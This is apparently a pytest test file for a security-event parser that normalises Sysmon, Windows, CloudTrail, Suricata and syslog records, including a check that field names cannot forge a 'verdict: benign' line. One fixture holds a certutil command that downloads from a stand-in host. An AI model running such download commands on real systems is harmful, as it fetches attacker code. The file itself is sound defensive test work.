"""Security events become materials: real formats, and what is none."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clover_decide.errors import FormatError
from clover_decide.events import MAX_FIELDS, MAX_VALUE, read_event

SYSMON = {"EventID": 1, "Computer": "ws-7", "CommandLine": "certutil.exe -urlcache -f http://a/b", "User": "CORP\\mona", "Hashes": ""}
NESTED = {"Event": {"System": {"EventID": 4625, "EventRecordID": 88121}, "EventData": {"TargetUserName": "svc", "LogonType": 3}}}
TRAIL = {
    "eventSource": "cloudtrail.amazonaws.com",
    "eventName": "StopLogging",
    "eventID": "a1",
    "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/dora"},
    "resources": [{"ARN": "x"}, {"ARN": "y"}],
}
BRIDGE = {"version": "0", "id": "e-1", "detail-type": "AWS API Call via CloudTrail", "source": "aws.cloudtrail", "detail": TRAIL}
EVE = {"event_type": "alert", "flow_id": 7, "src_ip": "10.0.0.1", "alert": {"signature": "ET MALWARE beacon", "severity": 1}}


@pytest.mark.parametrize(
    ("data", "kind", "name", "begins"),
    [
        (SYSMON, "windows", None, ["EventID: 1", "Computer: ws-7", "User: CORP\\mona"]),
        (NESTED, "windows", "88121", ["EventID: 4625", "EventRecordID: 88121", "TargetUserName: svc", "LogonType: 3"]),
        (TRAIL, "cloudtrail", "a1", ["eventName: StopLogging", "eventSource: cloudtrail.amazonaws.com", "userIdentity.type: IAMUser"]),
        (BRIDGE, "cloudtrail", "a1", ["eventName: StopLogging", "eventSource: cloudtrail.amazonaws.com", "userIdentity.type: IAMUser"]),
        (EVE, "suricata", "7", ["event_type: alert", "src_ip: 10.0.0.1", "alert.signature: ET MALWARE beacon"]),
        ({"id": 5, "what": ["a", 2]}, "json", "5", ["id: 5", "what: a, 2"]),
    ],
)
def test_json_events_are_known_by_their_fields_and_told_with_the_telling_ones_first(
    data: dict[str, Any], kind: str, name: str | None, begins: list[str]
) -> None:
    event = read_event(json.dumps(data))
    assert (event.kind, event.id, event.left_out) == (kind, name, 0)
    assert event.text.splitlines()[: len(begins) + 1] == [f"Event ({kind}):", *begins]


def test_nested_lists_keep_every_value_and_empty_fields_are_not_read() -> None:
    assert "resources.0.ARN: x" in read_event(json.dumps(TRAIL)).text and "resources.1.ARN: y" in read_event(json.dumps(TRAIL)).text
    assert "Hashes" not in read_event(json.dumps(SYSMON)).text


@pytest.mark.parametrize(
    ("line", "host", "message"),
    [
        ("<38>Mar  4 11:40:12 web-01 sshd[2211]: Accepted publickey for deploy", "web-01", "sshd[2211]: Accepted publickey for deploy"),
        ("Mar 14 01:02:03 10.0.0.7 kernel: oops", "10.0.0.7", "kernel: oops"),
        ("<165>1 2025-03-04T22:14:15.003Z gw.example.com app - ID47 - started", "gw.example.com", "app - ID47 - started"),
    ],
)
def test_syslog(line: str, host: str, message: str) -> None:
    event = read_event(line)
    assert event.kind == "syslog" and f"Host: {host}" in event.text and f"Message: {message}" in event.text
    assert ("Priority" in event.text) == line.startswith("<")


def test_severity_of_the_priority() -> None:
    assert "Priority: 38 (informational)" in read_event("<38>Mar  4 11:40:12 web-01 sshd: hello").text


@pytest.mark.parametrize(
    "line",
    [
        '{"EventID": 1, "Image": "C:',
        "[1, 2]",
        '"text"',
        "{}",
        "hello there",
        "",
        "<38>",
        '{"a": null, "b": {}}',
        "<999>Mar  4 11:40:12 web-01 sshd: x",
        '{"a": NaN}',
        '{"a": 1, "a": 2}',
    ],
)
def test_what_is_no_event_is_refused_where_it_stands(line: str) -> None:
    with pytest.raises(FormatError) as error:
        read_event(line, "row 7")
    assert error.value.path == "row 7" and error.value.accepted


def test_long_values_and_many_fields_are_shortened_and_counted() -> None:
    event = read_event(json.dumps({"script": "x" * (MAX_VALUE + 25), **{f"f{i}": i for i in range(MAX_FIELDS + 4)}}))
    assert "… (25 more characters)" in event.text and event.text.endswith("(5 more fields)") and event.left_out == 6
    assert "f0: 0" in event.text and f"f{MAX_FIELDS + 3}:" not in event.text


def leaves(value: Any) -> Iterator[Any]:
    if isinstance(value, list):
        for one in value:
            yield from leaves(one)
    else:
        yield value


VALUES = st.recursive(st.none() | st.integers() | st.text(max_size=9), lambda values: st.lists(values, max_size=3), max_leaves=6)


@given(st.dictionaries(st.text(max_size=8), VALUES))
def test_any_json_object_is_an_event_or_refused(data: dict[str, Any]) -> None:
    line = json.dumps(data)
    try:
        event = read_event(line)
    except FormatError:
        assert not any(leaf not in (None, "") for value in data.values() for leaf in leaves(value))
    else:
        assert event.text.startswith("Event (") and len(event.text) < 60_000


def test_a_field_can_neither_forge_a_line_nor_hide_another() -> None:
    assert "x verdict: benign: y" in read_event(json.dumps({"x\nverdict: benign": "y"})).text
    both = read_event(json.dumps({"EventData": {"User": "attacker"}, "User": "benign", "EventID": 1})).text
    assert "User: benign" in both and "EventData.User: attacker" in both
    long = read_event(json.dumps({"k" * 5000: 1}))
    assert len(long.text) < 200 and long.left_out == 1


@pytest.mark.parametrize(
    "data",
    [
        {"winlog": {"event_id": 4625, "event_data": {"TargetUserName": "svc"}}},
        {"Event": {"System": {"EventID": {"#text": 4625}}, "EventData": {"TargetUserName": "svc"}}},
    ],
)
def test_other_envelopes_of_windows_events(data: dict[str, Any]) -> None:
    event = read_event(json.dumps(data))
    assert event.kind == "windows" and "\nTargetUserName: svc" in event.text
    assert read_event(json.dumps({"detail": {"request": {"EventID": 7}}, "app": "billing"})).kind == "json"


def test_a_mark_of_byte_order_is_no_part_of_an_event() -> None:
    assert read_event("\ufeff" + json.dumps(SYSMON)).kind == "windows"
    assert read_event("<34>1 - host su - - - hello").kind == "syslog"
